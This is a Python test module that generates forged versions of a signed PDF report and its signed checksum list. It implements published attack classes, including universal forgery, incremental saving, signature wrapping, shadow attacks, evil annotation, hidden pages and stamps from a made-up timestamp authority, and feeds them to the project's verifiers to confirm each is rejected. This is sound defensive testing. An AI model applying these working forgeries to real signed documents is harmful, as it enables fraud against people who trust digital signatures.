"""Forgeries of a signed report, made without its signer's key: one generator for each class of published attack.

Each takes a signed report folder and changes it so that somebody would read, or believe, what was never signed. The command and
verify.html are fed the same list: neither may call what comes out valid.

References
----------
Mladenov et al., 1 Trillion Dollar Refund (CCS 2019): universal forgery, incremental saving, signature wrapping. Mainka et al.,
Shadow Attacks (NDSS 2021): hide, replace, hide and replace. Rohlmann et al., Breaking the Specification: PDF Certification (S&P
2021): evil annotation. Müller et al., Processing Dangerous Paths (NDSS 2021), for what a document does when it is opened. Hidden
objects, which readers resolve otherwise than a verifier does, are a class of parser confusion, after the same groups.
"""

from __future__ import annotations

import hashlib
import io
import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pikepdf
from asn1crypto import cms, core, keys
from asn1crypto import x509 as asn1_x509
from asn1crypto.parser import parse
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID
from pyhanko.sign.timestamps import DummyTimeStamper

from evaluation.assurance.signatures import messages
from evaluation.report_folder import CRATE, FIRST_PAGE, SIGNED_SUMS, SUMS

SIGNED_PDF = "evaluator-report.it.signed.pdf"
UNSIGNED = b"\xa1"  # attributes of a signer that nothing signs (RFC 5652, 5.3)
DROPPINGS = (".DS_Store", "tables/desktop.ini", "Thumbs.db", "._index.html", "notebooks/._04_effects.ipynb")
UNCONFIRMED = f"{SIGNED_SUMS}: an unconfirmed stamp"
INVENTED = "Marche temporali di Stato"
DRAWING = b"q 1 1 1 rg 60 300 475 300 re f 0 g BT /FX 24 Tf 80 420 Td (60.000,00 EUR) Tj ET Q"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


@dataclass
class Update:
    """An incremental update in the making: objects are appended, then a table, a trailer and an end."""

    data: bytearray
    places: dict[int, int]

    @classmethod
    def of(cls, pdf: bytes) -> Update:
        return cls(bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n"), {})

    def add(self, number: int, body: bytes, *, listed: bool = True) -> int:
        """Append an object; one that is not listed stands in no table."""
        place = len(self.data)
        self.data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
        if listed:
            self.places[number] = place
        return place

    def end(self, pdf: bytes, *, more: bytes = b"", eof: bytes = b"%%EOF\n") -> bytes:
        """Append table, trailer and end."""
        table = len(self.data)
        self.data += b"xref\n"
        for each in sorted(self.places):
            self.data += b"%d 1\n%010d 00000 n \n" % (each, self.places[each])
        size = max(size_of(pdf), *(each + 1 for each in self.places)) if self.places else size_of(pdf)
        keep = b" ".join(re.findall(rb"/Root \d+ 0 R|/Info \d+ 0 R|/ID \[[^]]*\]", last_trailer(pdf)))
        self.data += b"trailer\n<< %s /Size %d /Prev %d %s>>\n" % (keep, size, last_table(pdf), more)
        self.data += b"startxref\n%s\n%s" % (b"%d" % table, eof)
        return bytes(self.data)


def last_table(pdf: bytes) -> int:
    return int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])


def last_trailer(pdf: bytes) -> bytes:
    return re.findall(rb"trailer\s*(<<.*?>>)\s*startxref", pdf, re.S)[-1]


def size_of(pdf: bytes) -> int:
    return int(re.search(rb"/Size (\d+)", last_trailer(pdf))[1])


def body_of(pdf: bytes, number: int) -> bytes:
    """The newest body of an object that stands by itself."""
    return re.findall(rb"(?<![0-9])%d 0 obj\s*(.*?)\s*endobj" % number, pdf, re.S)[-1]


def catalogue(pdf: bytes) -> tuple[int, bytes]:
    number = int(re.search(rb"/Root (\d+) 0 R", last_trailer(pdf))[1])
    return number, body_of(pdf, number)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(content), entries, content)


def drawn_page(pdf: bytes, drawing: int) -> tuple[int, bytes]:
    """The object of the third page with the object `drawing` drawn last."""
    with pikepdf.open(io.BytesIO(pdf)) as document:
        page = document.pages[2].obj
        entries = {key: _reference(page, key) for key in page if key not in ("/Contents", "/Resources")}
        contents = page.get("/Contents")
        before = (
            b" ".join(_written(each) for each in contents)
            if isinstance(contents, pikepdf.Array)
            else _written(contents)
        )
        resources = b" ".join(
            key.encode() + b" " + _written(value) for key, value in page.Resources.items() if key != "/Font"
        )
        fonts = b" ".join(key.encode() + b" " + _written(value) for key, value in page.Resources.Font.items())
    kept = b" ".join(key.encode() + b" " + value for key, value in entries.items())
    font = b"/Font << %s /FX %s >>" % (fonts, FONT)
    return page.objgen[0], b"<< %s /Contents [ %s %d 0 R ] /Resources << %s %s >> >>" % (
        kept, before, drawing, font, resources,
    )  # fmt: skip


def _reference(owner: pikepdf.Object, key: str) -> bytes:
    return _written(owner.get(key))


def _written(value: object) -> bytes:
    if isinstance(value, pikepdf.Object):
        return b"%d 0 R" % value.objgen[0] if value.is_indirect else value.unparse(resolved=False)
    return str(value).encode()


def _store(pdf: bytes, update: Update, first: int) -> None:
    """Add a validation store, as a signature made to last has one, and the catalogue that names it."""
    hole = bytes.fromhex(re.findall(rb"/Contents\s*<([0-9a-fA-F]+)>", pdf)[-1].decode())
    message = cms.ContentInfo.load(hole)["content"]
    update.add(first, stream(message["certificates"][0].chosen.dump()))
    update.add(first + 1, b"<< /Type /DSS /Certs [ %d 0 R ] >>" % first)
    root, body = catalogue(pdf)
    update.add(root, b"<< /DSS %d 0 R %s" % (first + 1, body[2:]))


def validation_store(pdf: bytes) -> bytes:
    """No forgery: the store alone, as a signature of level B-LT has it after its last byte."""
    update = Update.of(pdf)
    _store(pdf, update, size_of(pdf))
    return update.end(pdf)


def hidden_page(how: str) -> Callable[[bytes], bytes]:
    """A page that no cross-reference of the last update names, beside a validation store; a reader finds it all the same."""

    def forge(pdf: bytes) -> bytes:
        first = size_of(pdf)
        update = Update.of(pdf)
        drawing = update.add(first + 2, stream(DRAWING), listed=False)
        number, drawn = drawn_page(pdf, first + 2)
        page = update.add(number, drawn, listed=False)
        _store(pdf, update, first)
        ended = update.end(pdf)
        if how == "named by no table":
            return ended
        if how == "underscore":  # Python's int reads 4_74, a viewer rebuilds the table, and the last object wins
            table = re.findall(rb"startxref\n(\d+)\n%%EOF\n$", ended)[0]
            return ended[: -len(table) - 7] + table[:1] + b"_" + table[1:] + b"\n%%EOF\n"
        ends = {"blank before the end": b" %%EOF\n", "no end": b"", "no line end": b"%%EOF"}
        return Update(bytearray(ended), {number: page, first + 2: drawing}).end(ended, eof=ends[how])

    return forge


def saved_over(pdf: bytes) -> bytes:
    """Incremental saving: the page drawn over by a well-formed update."""
    update = Update.of(pdf)
    update.add(size_of(pdf), stream(DRAWING))
    update.add(*drawn_page(pdf, size_of(pdf)))
    return update.end(pdf)


def saved_without_table(pdf: bytes) -> bytes:
    """Incremental saving: bodies only, for readers that rebuild what they miss."""
    update = Update.of(pdf)
    update.add(size_of(pdf), stream(DRAWING), listed=False)
    update.add(*drawn_page(pdf, size_of(pdf)), listed=False)
    return bytes(update.data)


def saved_with_a_copied_signature(pdf: bytes) -> bytes:
    """Incremental saving: the signature's own dictionary once more, so that one seems to cover the end."""
    number, copied = re.findall(rb"(\d+) 0 obj\s*(<<(?:(?!endobj).)*?/ByteRange.*?)\s*endobj", pdf, re.S)[-1]
    update = Update.of(saved_over(pdf))
    update.add(int(number), copied)
    return update.end(saved_over(pdf))


def wrapped(pdf: bytes) -> bytes:
    """Signature wrapping: the second signed part moved back, what is shown put between, the hole made wider."""
    first, length, second, rest = map(int, re.findall(rb"/ByteRange \[\s*(\d+) (\d+) (\d+) (\d+)", pdf)[-1])
    shift = 4096
    moved = pdf[:second] + b"%d 0 obj\n%s\nendobj\n" % (size_of(pdf), stream(DRAWING))
    moved = moved.ljust(second + shift) + pdf[second:]
    return moved.replace(
        b"/ByteRange [%d %d %d %d" % (first, length, second, rest),
        b"/ByteRange [%d %d %d %d" % (first, length, second + shift, rest),
    )


def no_range(pdf: bytes) -> bytes:
    """Universal forgery: no range of bytes, so that nothing is compared."""
    return pdf.replace(b"/ByteRange", b"/BiteRange")


def empty_contents(pdf: bytes) -> bytes:
    """Universal forgery: a signature of zeros."""
    found = re.findall(rb"/Contents\s*<([0-9a-fA-F]+)>", pdf)[-1]
    return pdf.replace(found, b"0" * len(found))


def annotated(pdf: bytes) -> bytes:
    """Evil annotation: a note with an appearance of its own, over the amount."""
    first = size_of(pdf)
    update = Update.of(pdf)
    update.add(first, stream(DRAWING, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] "))
    update.add(first + 1, b"<< /Type /Annot /Subtype /FreeText /Rect [0 0 595 842] /AP << /N %d 0 R >> /F 4 >>" % first)
    number, page = drawn_page(pdf, first)
    bare = page.replace(b" %d 0 R ] /Resources" % first, b" ] /Resources")
    update.add(
        number, b"<< /Annots [ %d 0 R ] %s" % (first + 1, re.sub(rb"/Annots (\[[^]]*\]|\d+ 0 R)", b"", bare)[2:])
    )
    return update.end(pdf)


def hidden_then_shown(pdf: bytes) -> bytes:
    """Shadow attack, hide: what was covered when it was signed is uncovered: here, the tree of pages replaced."""
    root, body = catalogue(pdf)
    first = size_of(pdf)
    update = Update.of(pdf)
    update.add(first, stream(DRAWING))
    update.add(
        first + 1,
        b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R /Resources << /Font << /FX %s >> >> >>"
        % (first + 2, first, FONT),
    )
    update.add(first + 2, b"<< /Type /Pages /Kids [ %d 0 R ] /Count 1 >>" % (first + 1))
    update.add(root, re.sub(rb"/Pages \d+ 0 R", b"/Pages %d 0 R" % (first + 2), body))
    return update.end(pdf)


def font_replaced(pdf: bytes) -> bytes:
    """Shadow attack, replace: the same characters in a font that draws others."""
    with pikepdf.open(io.BytesIO(pdf)) as document:
        (number, *_) = [value.objgen[0] for value in document.pages[2].Resources.Font.values()]
    update = Update.of(pdf)
    update.add(number, FONT)
    return update.end(pdf)


def shown_instead(pdf: bytes) -> bytes:
    """Shadow attack, hide and replace: an older object is freed and another takes its place."""
    number, page = drawn_page(pdf, size_of(pdf))
    update = Update.of(pdf)
    update.add(size_of(pdf), stream(DRAWING))
    update.add(number, page)
    ended = update.end(pdf)
    return ended.replace(
        b"%d 1\n%010d 00000 n " % (number, update.places[number]),
        b"%d 1\n%010d 00001 n " % (number, update.places[number]),
    )


def freed(pdf: bytes) -> bytes:
    """A validation store, and a table by which what the last page draws is no longer there."""
    with pikepdf.open(io.BytesIO(pdf)) as document:
        contents = document.pages[-1].obj.get("/Contents")
        gone = (contents[0] if isinstance(contents, pikepdf.Array) else contents).objgen[0]
    update = Update.of(pdf)
    _store(pdf, update, size_of(pdf))
    before, after = pdf, update.end(pdf)[len(pdf) :]
    return before + after.replace(b"trailer\n", b"%d 1\n0000000000 00001 f \ntrailer\n" % gone)


def opens(pdf: bytes) -> bytes:
    """A validation store beside which the catalogue also says what to do when the report is opened."""
    update = Update.of(pdf)
    _store(pdf, update, size_of(pdf))
    root, body = catalogue(bytes(update.data))
    update.add(root, b"<< /OpenAction << /S /URI /URI (https://example.org) >> %s" % body[2:])
    return update.end(pdf)


def hybrid(pdf: bytes) -> bytes:
    """A validation store, and a table that sends readers of streams to another one (/XRefStm)."""
    update = Update.of(pdf)
    _store(pdf, update, size_of(pdf))
    return update.end(pdf, more=b"/XRefStm 15 ")


def packed(pdf: bytes) -> bytes:
    """A validation store, and a stream of objects that holds the page a second time."""
    first = size_of(pdf)
    number, page = drawn_page(pdf, first + 3)
    update = Update.of(pdf)
    head = b"%d 0 " % number
    update.add(first + 2, stream(head + page, b"/Type /ObjStm /N 1 /First %d " % len(head)))
    update.add(first + 3, stream(DRAWING))
    _store(pdf, update, first)
    return update.end(pdf)


def smuggled(pdf: bytes) -> bytes:
    """A validation store whose certificate is a drawing, used by a page."""
    first = size_of(pdf)
    update = Update.of(pdf)
    update.add(first + 2, stream(DRAWING))
    _store(pdf, update, first)
    update.add(*drawn_page(pdf, first + 2))
    return update.end(pdf)


def retitled(pdf: bytes) -> bytes:
    """What a reader's window shows as title changed by an update."""
    number = int(re.search(rb"/Info (\d+) 0 R", pdf)[1])
    update = Update.of(pdf)
    update.add(number, b"<< /Title (Another report) /Keywords (crate-sha256:%s) >>" % (b"0" * 64))
    return update.end(pdf)


def described_otherwise(pdf: bytes) -> bytes:
    """The metadata of the document (XMP) replaced by an update."""
    number = int(re.search(rb"/Metadata (\d+) 0 R", pdf)[1])
    update = Update.of(pdf)
    xmp = b"<?xpacket begin='' id='W5M0MpCehiHzreSzNTczkc9d'?><x:xmpmeta xmlns:x='adobe:ns:meta/'/><?xpacket end='w'?>"
    update.add(number, stream(xmp, b"/Type /Metadata /Subtype /XML "))
    return update.end(pdf)


def longer(pdf: bytes) -> bytes:
    return pdf + b"% a later thought\n"


def nobody(pdf: bytes) -> bytes:
    """A wholly forged report in PDF: the pages changed, and a signed message without a signer over them."""
    forged = pdf.replace(b"crate-sha256:", b"crate-sha257:", 1)
    found = re.findall(rb"/Contents\s*<([0-9a-fA-F]+)>", forged)[-1]
    message = _without_signer(bytes.fromhex(found.decode()), None)
    return forged.replace(found, message.hex().encode().ljust(len(found), b"0"))


def _without_signer(message: bytes, content: bytes | None) -> bytes:
    loaded = cms.ContentInfo.load(message)["content"]
    if content is not None:
        loaded["encap_content_info"]["content"] = core.OctetString(content)
    loaded["signer_infos"] = cms.SignerInfos([])
    return cms.ContentInfo({"content_type": "signed_data", "content": loaded.copy()}).dump(force=True)


def list_without_signer(report: Path) -> None:
    """An amount changed on the first page, both lists written anew, and wrapped in a message that nobody signed."""
    page = report / FIRST_PAGE
    page.write_text(page.read_text("utf-8").replace("43", "60"), "utf-8")
    crate = json.loads((report / CRATE).read_text("utf-8"))
    for entity in crate["@graph"]:
        if entity.get("@id") == FIRST_PAGE:
            entity["sha256"] = hashlib.sha256(page.read_bytes()).hexdigest()
    (report / CRATE).write_text(json.dumps(crate, ensure_ascii=False, indent=1, sort_keys=True) + "\n", "utf-8")
    names = [line.split("  ", 1)[1] for line in (report / SUMS).read_text("utf-8").splitlines()]
    sums = "".join(f"{hashlib.sha256((report / name).read_bytes()).hexdigest()}  {name}\n" for name in names)
    (report / SUMS).write_text(sums, "utf-8")
    (report / SIGNED_SUMS).write_bytes(_without_signer((report / SIGNED_SUMS).read_bytes(), sums.encode()))


def invented_stamp(moment: datetime) -> DummyTimeStamper:
    """An authority of nobody's, under a name that sounds like somebody's, which says that it is `moment`."""
    key = rsa.generate_private_key(65537, 2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, INVENTED)])
    builder = x509.CertificateBuilder(
        name, name, key.public_key(), 1, datetime.now(UTC) - timedelta(3650), datetime.now(UTC) + timedelta(3650)
    )
    stamping = x509.ExtendedKeyUsage([ExtendedKeyUsageOID.TIME_STAMPING])
    certificate = builder.add_extension(stamping, critical=True).sign(key, hashes.SHA256())
    plain = key.private_bytes(Encoding.DER, PrivateFormat.PKCS8, NoEncryption())
    held = asn1_x509.Certificate.load(certificate.public_bytes(Encoding.DER))
    return DummyTimeStamper(held, keys.PrivateKeyInfo.load(plain), fixed_dt=moment)


def _dated(message: bytes, moment: datetime) -> bytes:
    """The message of one signer with an invented stamp in the place of any other."""
    (bare,) = messages.signers(cms.ContentInfo.load(message)["content"])
    parts, (info,) = messages._taken_apart(bare)
    signed = [each for each in messages._members(parse(info)[4]) if each[:1] != UNSIGNED]
    alone = messages._enveloped(messages._sequence(*parts, messages._set_of([messages._sequence(*signed)])))
    return messages.stamped(alone, invented_stamp(moment))


def stamp_anew(report: Path, moment: datetime) -> None:
    """No forgery of what is signed: somebody else's signatures, dated by whoever got hold of them."""
    path = report / SIGNED_SUMS
    path.write_bytes(_dated(path.read_bytes(), moment))
    pdf = (report / SIGNED_PDF).read_bytes()
    found = re.findall(rb"/Contents\s*<([0-9a-fA-F]+)>", pdf)[-1]
    dated = _dated(bytes.fromhex(found.decode()), moment).hex().encode()
    if len(dated) <= len(found):  # where a stamp was, there is room for another
        (report / SIGNED_PDF).write_bytes(pdf.replace(found, dated.ljust(len(found), b"0")))


def _on_pdf(forge: Callable[[bytes], bytes]) -> Callable[[Path], None]:
    def change(report: Path) -> None:
        path = report / SIGNED_PDF
        path.write_bytes(forge(path.read_bytes()))

    return change


def drop(report: Path) -> None:
    """What systems leave in a folder that somebody opens; the binary ones are no pages and no notebooks."""
    for name in DROPPINGS:
        (report / name).write_bytes(b"\x00\x05\x16\x07\x00\x02 Mac OS X")


NEITHER_SIGNED_NOR_CLAIMED: dict[str, tuple[Callable[[Path], None], str]] = {
    "a stamp by nobody, years before": (
        lambda report: stamp_anew(report, datetime(2019, 1, 1, tzinfo=UTC)),
        UNCONFIRMED,
    ),
    "a stamp by nobody, years after": (
        lambda report: stamp_anew(report, datetime(2039, 1, 1, tzinfo=UTC)),
        UNCONFIRMED,
    ),
    "what systems leave in folders": (drop, f"{DROPPINGS[0]}: left by a system, no part of the report"),
}
"""What anybody may do to somebody else's signed report without touching what was signed: both go on, and name it."""

FORGERIES: dict[str, Callable[[Path], None]] = {
    "universal forgery: no range": _on_pdf(no_range),
    "universal forgery: a signature of zeros": _on_pdf(empty_contents),
    "universal forgery: nobody signed the PDF": _on_pdf(nobody),
    "universal forgery: nobody signed the list": list_without_signer,
    "incremental saving: a page drawn over": _on_pdf(saved_over),
    "incremental saving: bodies without a table": _on_pdf(saved_without_table),
    "incremental saving: the signature copied": _on_pdf(saved_with_a_copied_signature),
    "incremental saving: a comment at the end": _on_pdf(longer),
    "signature wrapping": _on_pdf(wrapped),
    "shadow: hide": _on_pdf(hidden_then_shown),
    "shadow: replace": _on_pdf(font_replaced),
    "shadow: hide and replace": _on_pdf(shown_instead),
    "shadow: what a page draws freed": _on_pdf(freed),
    "certification: evil annotation": _on_pdf(annotated),
    "hidden page: a blank before the end": _on_pdf(hidden_page("blank before the end")),
    "hidden page: no end": _on_pdf(hidden_page("no end")),
    "hidden page: a last line without its end": _on_pdf(hidden_page("no line end")),
    "hidden page: digits that only Python reads": _on_pdf(hidden_page("underscore")),
    "hidden page: named by no table": _on_pdf(hidden_page("named by no table")),
    "object stream: the page a second time": _on_pdf(packed),
    "hybrid cross-reference": _on_pdf(hybrid),
    "validation store: something to open": _on_pdf(opens),
    "validation store: a drawing beside it": _on_pdf(smuggled),
    "title": _on_pdf(retitled),
    "metadata": _on_pdf(described_otherwise),
}
